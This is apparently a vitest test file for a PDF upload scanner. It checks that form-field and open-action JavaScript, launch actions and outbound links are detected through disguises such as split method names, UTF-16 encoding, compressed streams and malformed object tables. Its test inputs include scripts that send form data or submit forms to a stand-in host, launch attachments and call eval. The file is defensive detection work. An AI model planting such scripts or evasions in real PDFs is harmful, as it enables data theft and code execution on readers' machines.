import { Buffer } from 'node:buffer';
import { describe, expect, test } from 'vitest';
import { activeKinds, kindsText } from '../../../lib/domain/active-kinds.ts';
import { fileFindingText, found } from '../../../lib/domain/file-findings.ts';
import { defaultLimits } from '../../../lib/files/limits.ts';
import { readPdf } from '../../../lib/files/pdf/read.ts';
import { body, compressedPdf, flate, join, objectStream, onePage, type Parts, pdf, stream, table } from './build.ts';

const findings = async (more: Parts) => (await readPdf(pdf(onePage(more)), defaultLimits)).findings;
const catalog = (entries: string) => ({ 1: `<< /Type /Catalog /Pages 2 0 R ${entries} >>` });
const field = (event: string, script: string) =>
  catalog(
    `/AcroForm << /Fields [<< /FT /Tx /T (somme) /Subtype /Widget /Rect [0 0 1 1] /AA << /${event} << /S /JavaScript /JS ${script} >> >> >>] >>`,
  );

describe('UPL-10: the script of a field is judged by what it says', () => {
  test.each([
    ['F', '(AFNumber_Format\\(2, 0, 0, 0, "", true\\);)'],
    ['K', '(AFDate_KeystrokeEx\\("dd/mm/yyyy"\\);)'],
    ['V', '(AFRange_Validate\\(true, 0, true, 100\\);)'],
    ['C', '(AFSimple_Calculate\\("SUM", new Array\\("a", "b"\\)\\);)'],
    ['C', '(event.value = this.getField\\("a"\\).value * 1.2;)'],
    ['F', '<FEFF00410046004E0075006D>'],
  ])('%s %s formats, checks or calculates', async (event, script) => {
    expect((await findings(field(event, script))).map(({ code }) => code)).toEqual(['pdf-form-scripts']);
  });

  test.each([
    ['opens a page', '(app.launchURL\\("http://a.b/?" + this.getField\\("nom"\\).value\\);)'],
    ['sends the form', '(this.submitForm\\("http://a.b"\\))'],
    ['starts an attached file', '(this.exportDataObject\\({ cName: "a", nLaunch: 2 }\\))'],
    ['makes code as it runs', '(eval\\(this.info.title\\))'],
    ['hides a name in a subscript', '(this["sub" + "mitForm"]\\("http://a.b"\\))'],
    [
      'hides in UTF-16',
      `<FEFF${[...'app.launchURL(1)'].map((sign) => `00${sign.charCodeAt(0).toString(16)}`).join('')}>`,
    ],
    ['hides in a stream', '8 0 R'],
  ])('one that %s is refused', async (_, script) => {
    const more = { ...field('F', script), 8: flate('app.launchURL("http://a.b")') };
    expect((await findings(more))[0]).toMatchObject({ code: 'pdf-active-content', facts: { kinds: 'javascript' } });
  });
});

describe('UPL-10: no disguise hides an action', () => {
  test.each([
    ['a structure element by its type', '/OpenAction << /Type /StructElem /S /JavaScript /JS (x) >>', 'javascript'],
    ['a structure element by its parent', '/OpenAction << /S /Launch /P 3 0 R /F (a) >>', 'launch'],
    ['an element that is met in the structure too', '/StructTreeRoot << /K 8 0 R >> /OpenAction 8 0 R', 'javascript'],
  ])('%s', async (_, entries, kinds) => {
    const more = { ...catalog(entries), 8: '<< /S /JavaScript /P 3 0 R /JS (x) >>' };
    expect((await findings(more))[0]?.facts).toEqual({ kinds });
  });

  test('the elements of a tagged text may have any name', async () => {
    const tree = '/StructTreeRoot << /Type /StructTreeRoot /K 8 0 R /RoleMap << /Launch /P >> >>';
    expect(await findings({ ...catalog(tree), 8: '<< /S /Launch /P 1 0 R /K 0 /Pg 3 0 R >>' })).toEqual([]);
  });
});

describe('UPL-10: no gap in a table hides an action from the walk', () => {
  const script = '<< /S /JavaScript /JS (x) >>';

  test('an object that the table leaves out and other programs search for', async () => {
    const { bytes, places } = body(onePage({ ...catalog('/OpenAction 8 0 R'), 8: script }));
    places.delete(8);
    const { findings: told } = await readPdf(table(bytes, places, '/Root 1 0 R'), defaultLimits);
    expect(told.map(({ code }) => code)).toEqual(['pdf-repaired', 'pdf-active-content']);
  });

  test('an object that is nowhere is null', async () => {
    expect(await findings(catalog('/OpenAction 8 0 R'))).toEqual([]);
  });

  test('an object that its stream holds twice, of which programs take one or the other', async () => {
    const inner = `1 0 2 60 8 120 8 150 ${'<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>'.padEnd(60)}${'<< /Type /Pages /Kids [3 0 R] /Count 1 >>'.padEnd(60)}${script.padEnd(30)}null `;
    const held = flate(inner, `/Type /ObjStm /N 4 /First ${inner.indexOf('<<')}`);
    const outer = { 3: '<< /Type /Page /Parent 2 0 R >>' };
    const { findings: told } = await readPdf(
      compressedPdf({ outer, inner: { 1: '', 2: '', 8: '' }, held }),
      defaultLimits,
    );
    expect(told.map(({ code }) => code)).toEqual(['file-unreadable']);
  });
});

describe('UPL-10: no sloppy writing hides an action from the walk', () => {
  const script = '/S /JavaScript /JS (x)';
  const codes = async (bytes: Buffer) => (await readPdf(bytes, defaultLimits)).findings.map(({ code }) => code);
  const opening = catalog('/OpenAction 8 0 R');
  const root = opening[1];
  const [tree, leaf] = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R >>'];

  const sloppy = [
    ['a word that means nothing', `<< ${script} /X word >>`],
    ['a value without its key', `<< ${script} 12 >>`],
    ['a dictionary without its end', `<< ${script} /X 1`],
    ['half of the end', `<< ${script} /X 1 >`],
    ['an array without its end', `<< ${script} /X [1 2 >>`],
  ] as const;

  test.each(sloppy)('%s, in an object that forgiving programs read', async (_, action) => {
    expect(await codes(pdf(onePage({ ...opening, 8: action })))).toEqual(['file-unreadable']);
    expect(await codes(compressedPdf({ outer: { 3: leaf }, inner: { 1: root, 2: tree, 8: action } }))).toEqual([
      'file-unreadable',
    ]);
  });

  test.each(sloppy)('%s, in the newest of two definitions', async (_, action) => {
    const first = pdf(onePage({ ...opening, 8: '<< /S /GoTo /D [3 0 R /Fit] >>' }));
    const { bytes, places } = body({ 8: action }, first);
    const previous = first.lastIndexOf('xref\n0 1');
    expect(await codes(table(bytes, places, `/Root 1 0 R /Prev ${previous}`))).toEqual(['file-unreadable']);
  });

  test('a holder of objects that breaks off behind the action', async () => {
    const held = objectStream({ 8: `<< ${script} >>` }, '', (data, entries) => {
      const size = Buffer.alloc(4);
      size.writeUInt16LE(data.length);
      size.writeUInt16LE(0xffff - data.length, 2);
      // One stored block, and a kind of block that does not exist (RFC 1951, 3.2.3).
      const coded = join('\x78\x01\x00', size, data, '\x07');
      return stream(coded, `/Filter /FlateDecode ${entries}`);
    });
    const bytes = compressedPdf({ outer: { 1: root, 2: tree, 3: leaf }, inner: { 8: '' }, held });
    expect(await codes(bytes)).toEqual(['file-unreadable']);
  });

  test('one of three values of the same key', async () => {
    for (const order of ['8 0 R', '9 0 R', '10 0 R'].map((_, n, all) => [...all.slice(n), ...all.slice(0, n)])) {
      const actions = order.map((one) => `/OpenAction ${one}`).join(' ');
      const harmless = '<< /S /GoTo /D [3 0 R /Fit] >>';
      const told = await codes(pdf(onePage({ ...catalog(actions), 8: `<< ${script} >>`, 9: harmless, 10: harmless })));
      // The one in the middle is nobody's.
      expect(told).toEqual(order[1] === '8 0 R' ? [] : ['pdf-active-content']);
    }
  });
});

describe('UPL-10: a document opens nothing by itself, a click may', () => {
  const leaving = [
    ['open-page', '<< /S /URI /URI (http://a.b) >>'],
    ['open-file', '<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>'],
  ] as const;
  test.each(leaving)('%s', async (kinds, action) => {
    const after = `<< /S /GoTo /D [3 0 R /Fit] /Next ${action} >>`;
    const among = `<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> ${action}] >>`;
    for (const entries of [
      `/OpenAction ${action}`,
      `/OpenAction ${after}`,
      `/OpenAction ${among}`,
      `/AA << /DP ${action} >>`,
    ]) {
      expect((await findings(catalog(entries)))[0]?.facts).toEqual({ kinds });
    }
    const link = `<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /Rect [0 0 1 1] /A ${action} >>] >>`;
    expect(await findings({ 3: link })).toEqual([]);
  });
});

describe('the words of a refusal', () => {
  test.each(Object.entries(activeKinds))('%s is told in French and in English', (kind, { fr, en }) => {
    expect(fr).not.toBe(en);
    expect(kindsText(kind)).toEqual({ fr, en });
  });

  test('no fact is left as a code', () => {
    const active = fileFindingText(found('pdf-active-content', { kinds: 'javascript, launch' })).message;
    expect(active.fr).toBe(
      'Le PDF contient des éléments interactifs interdits : code JavaScript, lancement d’un programme.',
    );
    const limit = (fact: string) => fileFindingText(found('limit-exceeded', { limit: fact })).message;
    expect(limit('maxObjects 200000').fr).toContain('200\u202f000 objets');
    expect(limit('maxInflated 33554432').en).toContain('32 MiB unpacked');
    expect(limit('maxDepth 64').en).toContain('64 levels of objects');
    const asked = fileFindingText(found('limit-exceeded', { limit: 'maxHeld 268435456', actual: 300_000_000 })).message;
    expect(asked.fr).toContain('(287 Mio en mémoire, la limite est 256 Mio en mémoire)');
    expect(asked.en).toContain('(287 MiB in memory, the limit is 256 MiB in memory)');
  });
});
